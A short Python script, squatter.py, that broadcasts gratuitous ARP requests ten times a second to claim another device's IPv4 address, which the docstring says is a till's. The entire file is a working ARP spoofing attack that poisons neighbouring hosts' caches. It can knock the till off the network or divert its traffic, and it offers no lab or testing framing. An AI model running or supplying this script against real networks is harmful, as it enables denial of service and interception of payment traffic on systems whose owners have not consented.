"""A device that believes the till's IPv4 address is its own, and says so ten times a second: `squatter.py INTERFACE ADDRESS`."""

import socket
import struct
import sys
import time

BROADCAST = b"\xff" * 6
ETHERTYPE_ARP = 0x0806
REQUEST_IPV4_OVER_ETHERNET = struct.pack("!HHBBH", 1, 0x0800, 6, 4, 1)

with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as wire:
    wire.bind((sys.argv[1], ETHERTYPE_ARP))
    mine: bytes = wire.getsockname()[4]
    address = socket.inet_aton(sys.argv[2])
    claim = REQUEST_IPV4_OVER_ETHERNET + mine + address + bytes(6) + address
    while True:
        wire.send(BROADCAST + mine + struct.pack("!H", ETHERTYPE_ARP) + claim)
        time.sleep(0.1)
